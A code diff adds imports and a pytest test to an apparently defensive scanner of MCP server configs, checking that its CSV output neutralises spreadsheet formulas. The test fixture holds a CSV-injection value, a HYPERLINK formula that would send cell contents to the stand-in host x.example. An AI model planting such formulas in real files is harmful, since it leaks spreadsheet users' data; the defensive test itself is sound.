@@ -3,7 +3,9 @@ redaction, JSON schema and SARIF 2.1.0 validity, CSV/Markdown, --fail-on, robust
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
 import shutil
@@ -292,3 +294,13 @@ def test_table_groups_by_client_and_file_and_prints_names_verbatim(tmp_path: Pat
     rows = [line for line in markdown.splitlines() if line.startswith("| ") and "odd" in line]
     assert len(rows) == 1
     assert rows[0].count(" | ") == 5, "one row, six cells"
+
+
+def test_csv_cells_from_scanned_files_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    home = tmp_path / "scanned"
+    (home / ".cursor").mkdir(parents=True)
+    (home / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {
+        '=HYPERLINK("http://x.example/?"&A1,"ok")': {"command": "npx", "args": ["-y", "@scope/mcp@1.0.0"]}}}))
+    rows = list(csv.reader(io.StringIO(run_cli("scan", "--home", str(home), "--format", "csv").stdout)))
+    assert rows[1][4] == '\'=HYPERLINK("http://x.example/?"&A1,"ok")'
+    assert rows[1][8] == "@scope/mcp", "a scoped npm name stays as it is"
